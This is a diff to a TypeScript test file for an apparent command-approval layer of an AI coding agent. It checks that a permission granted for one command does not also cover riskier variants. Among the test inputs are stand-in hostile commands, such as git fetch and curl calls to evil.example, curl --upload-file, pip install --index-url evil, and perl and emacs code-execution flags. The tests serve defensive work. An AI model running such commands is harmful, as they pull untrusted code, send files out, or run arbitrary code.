@@ -19,7 +19,9 @@ describe("what is offered", () => {
     ["git push origin main", [{ command: "git push origin main", categories: ["merge", "unvetted"] }]],
     ["npm run deploy:prod", [{ command: "npm run deploy:prod", categories: ["deploy"] }]],
     ["npm install left-pad | tail -3", [{ command: "npm install", categories: ["deps_add", "unvetted"] }]],
-    ["frobnicate --fast", [{ command: "frobnicate", categories: ["unvetted"] }]],
+    ["frobnicate --fast", [{ command: "frobnicate --fast", categories: ["unvetted"] }]],
+    ["just lint src", [{ command: "just lint src", categories: ["unvetted"] }]],
+    ["git lfs ls-files", [{ command: "git lfs ls-files", categories: ["unvetted"] }]],
     ["cd /repo && frob lint && frob lint -x", [{ command: "frob lint", categories: ["unvetted"] }]],
   ])("for %s", (command, grants) => expect(run(command)).toMatchObject({ verdict: "ask", grants }));
 
@@ -152,6 +154,27 @@ describe("what a grant answers", () => {
     ["pipx run frob", "pipx run evil"],
     ["frob lint", "cd sub && frob lint"],
     ["frob lint", "env -C sub frob lint"],
+    ["just lint", "just lint deploy"],
+    ["just lint", "just lint --justfile=x"],
+    ["task lint", "task lint deploy"],
+    ["task lint", "task lint -t x.yml"],
+    ["git lfs ls-files", "git lfs push origin main"],
+    ["git submodule status", "git submodule set-url x y"],
+    ["git bundle verify x", "git bundle create src/x --all"],
+    ["git fetch origin", "git fetch origin main:main"],
+    ["git fetch origin", "git fetch origin +refs/heads/x"],
+    ["git fetch origin", "git fetch https://evil.example/x"],
+    ["curl --version", "curl --url=evil.example/x"],
+    ["curl --version", "curl -Kx"],
+    ["curl localhost", "curl localhost --upload-file=x"],
+    ["perl -v", "perl '-esystem(q(git push))'"],
+    ["lua -v", "lua -ex"],
+    ["vim --version", "vim -es"],
+    ["emacs --version", "emacs --eval=x"],
+    ["pip install requests", "pip install --index-url evil x"],
+    ["pip install requests", "pip install --target=.git x"],
+    ["cargo install x", "cargo install --path evil"],
+    ["frob --fast", "frob --exec=x"],
   ])("what is offered for %s covers it, and not %s", (shown, next) => {
     const { grants } = run(shown);
     expect(grants).not.toEqual([]);
@@ -178,10 +201,21 @@ describe("what a grant answers", () => {
     expect(run("gh pr view 1", [], wide).verdict).toBe("ask");
   });
 
-  test("a single word allows options, and no other words", () => {
+  test("a single word, and what ends with options, covers only itself", () => {
     const frob = [{ command: "frob", categories: ["unvetted" as const] }];
-    expect(run("frob --fast", [], frob).verdict).toBe("allow");
+    expect(run("frob", [], frob).verdict).toBe("allow");
+    expect(run("frob --fast", [], frob).verdict).toBe("ask");
     expect(run("frob deploy", [], frob).verdict).toBe("ask");
+  });
+
+  test("other arguments of the same subcommand", () => {
+    for (const [shown, next] of [
+      ["git fetch origin", "git fetch --prune upstream"],
+      ["git submodule status", "git submodule status sub"],
+      ["pip install requests", "pip install --quiet flask"],
+      ["frob lint src", "frob lint --fix"],
+    ] as const)
+      expect(run(next, [], [...run(shown).grants]).verdict, next).toBe("allow");
   });
 
   test("never a denial, and never what cannot be known", () => {
